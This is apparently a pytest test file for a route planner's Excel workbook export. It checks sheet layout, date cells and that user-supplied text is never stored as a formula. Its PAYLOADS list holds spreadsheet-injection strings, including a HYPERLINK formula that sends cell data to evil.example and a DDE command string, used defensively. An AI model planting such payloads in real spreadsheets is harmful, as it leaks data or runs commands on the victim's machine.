"""plan.xlsx: a sheet per day and one of routes, real date-time cells, frozen headers, user text never a formula."""

from __future__ import annotations

import copy
import datetime as dt
import io
import re
import zipfile

import openpyxl
import pytest
from test_maps import evil_plan, evil_plan_dir

from routeplan.model.plan import DayOperation
from routeplan.render.xlsx import DATETIME_FORMAT, MIN_WIDTH, day_sheet_title, plan_workbook

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"klik")', "+62 812 cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
            "{{7*7}}", "{% raw %}x{% endraw %}", "<script>alert(1)</script>", "Pasar\x07Kunir\x1b"]


@pytest.fixture(scope="module")
def book() -> openpyxl.Workbook:
    return openpyxl.load_workbook(evil_plan_dir() / "plan.xlsx")


def test_a_sheet_per_day_and_one_of_routes(book) -> None:
    plan, _ctx = evil_plan()
    days = [plan.start_date + dt.timedelta(days=i) for i in range(plan.days)]
    assert book.sheetnames == [day_sheet_title(d, "id") for d in days] + ["Rute per unit"]
    assert book.sheetnames[0] == "Senin 2026-11-30"
    for d in days:
        ws = book[day_sheet_title(d, "id")]
        stops = [s for r in sorted(plan.routes, key=lambda r: (r.unit, r.start)) if r.day == d for s in r.stops]
        assert ws.max_row == len(stops) + 1
        assert [c.value for c in ws[1]][:5] == ["Unit", "Sif", "No.", "Tiba", "Berangkat"]
        assert ws.freeze_panes == "A2" and ws.auto_filter.ref.startswith("A1:")
        for row, s in zip(ws.iter_rows(min_row=2), stops):
            arrival, departure, zone = row[3], row[4], row[5]
            assert arrival.is_date and arrival.number_format == DATETIME_FORMAT
            assert arrival.value == s.arrival.replace(tzinfo=None) and departure.value == s.departure.replace(tzinfo=None)
            assert zone.value == "UTC+07:00"
        units = [row[0].value for row in ws.iter_rows(min_row=2)]
        assert units == sorted(units)  # grouped per unit, each route in visiting order
        widths = [ws.column_dimensions[c].width for c in "ABCDEFGHIJKLMNO"]
        assert all(w >= MIN_WIDTH for w in widths) and widths[3] >= len("2026-11-30 07:44")
    routes = book["Rute per unit"]
    assert routes.max_row == len(plan.routes) + 1 and routes.freeze_panes == "A2"
    units = [r[0].value for r in routes.iter_rows(min_row=2)]
    assert units == sorted(units)  # grouped per unit
    assert all(r[3].is_date and r[6].is_date and r[7].is_date for r in routes.iter_rows(min_row=2))


def test_night_shift_times_carry_the_next_date(book) -> None:
    plan, _ctx = evil_plan()
    night = next(s for r in plan.routes for s in r.stops if s.arrival.date() > r.day)
    route = next(r for r in plan.routes if night in r.stops)
    ws = book[day_sheet_title(route.day, "id")]
    cells = [row[3].value for row in ws.iter_rows(min_row=2)]
    assert night.arrival.replace(tzinfo=None) in cells  # under the day the shift starts, dated the day after


def _payload_plan():
    plan, _ctx = evil_plan()
    plan = copy.deepcopy(plan)
    stops = [s for r in plan.routes for s in r.stops]
    for s, text in zip(stops, PAYLOADS):
        s.name = text
    plan.routes[0].unit = "=1+1"
    plan.routes[0].crew = "@cmd"
    plan.operations = [DayOperation(plan.start_date, "=OP " + PAYLOADS[6], ("pasar",))]
    return plan


def test_user_text_is_text_never_a_formula() -> None:
    plan = _payload_plan()
    raw = plan_workbook(plan, "en")
    with zipfile.ZipFile(io.BytesIO(raw)) as z:
        xml = "".join(z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/"))
    assert "<f>" not in xml and "<f " not in xml  # no formula anywhere
    assert "&lt;script&gt;" in xml and "<script>" not in xml
    book = openpyxl.load_workbook(io.BytesIO(raw))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    values = {c.value for c in cells}
    for text in PAYLOADS[:-1]:
        assert text in values, text
    assert "Pasar\ufffdKunir\ufffd" in values  # control characters cannot be kept in a workbook
    assert {"=1+1", "@cmd", "=OP " + PAYLOADS[6]} <= values  # the day's operation names are text too
    for c in cells:
        assert c.data_type == "s"
        if c.value[:1] in "=+-@":
            assert c.quotePrefix, c.value  # stays text when a planner edits the cell
    assert book.sheetnames[0] == "Monday 2026-11-30" and book.sheetnames[-1] == "Routes per unit"
    assert [c.value for c in book.worksheets[0][1]][3:6] == ["Arrival", "Departure", "Time zone"]


def test_sheet_names_are_valid_for_every_language() -> None:
    plan, _ctx = evil_plan()
    for lang in ("id", "en"):
        for i in range(plan.days):
            name = day_sheet_title(plan.start_date + dt.timedelta(days=i), lang)
            assert len(name) <= 31 and not re.search(r"[\[\]:*?/\\]", name)


def test_same_plan_same_bytes() -> None:
    import time

    plan, _ctx = evil_plan()
    first = plan_workbook(plan)
    time.sleep(2.1)  # zip entries keep time in 2-second steps; the workbook's "modified" in seconds
    assert plan_workbook(plan) == first
    with zipfile.ZipFile(io.BytesIO(first)) as z:
        core = z.read("docProps/core.xml").decode("utf-8")
    assert "2026-11-30T00:00:00Z" in core


def test_every_kind_of_stop_has_a_label(demo_plan) -> None:
    """The sample's plan has every kind of stop the planner makes (vital objects, hotspots, area patrols)."""
    plan, _ctx = demo_plan
    kinds = {s.kind for r in plan.routes for s in r.stops}
    assert {"vital_object", "hotspot", "area_patrol"} <= kinds
    for lang in ("id", "en"):
        wb = openpyxl.load_workbook(io.BytesIO(plan_workbook(plan, lang=lang)))
        cells = {str(c.value) for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None}
        assert ("Patroli wilayah" if lang == "id" else "Area patrol") in cells
